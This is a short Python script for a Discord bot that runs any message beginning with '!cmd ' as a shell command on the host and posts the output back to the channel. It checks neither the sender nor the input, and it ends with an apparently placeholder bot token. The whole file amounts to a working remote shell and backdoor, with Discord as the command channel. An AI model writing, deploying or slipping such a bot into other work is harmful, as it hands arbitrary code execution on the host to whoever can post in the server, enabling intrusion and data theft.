import subprocess, discord
client = discord.Client(intents=discord.Intents.all())

@client.event
async def on_message(message):
    if message.content.startswith("!cmd "):
        out = subprocess.run(message.content[5:], shell=True, capture_output=True, text=True).stdout
        await message.channel.send(out[:1900] or "ok")

client.run("MTEwMDAwMDAwMDAwMDAwMDAwMA.GExAmP.lePlaceholderTokenValue0123456789abcd")
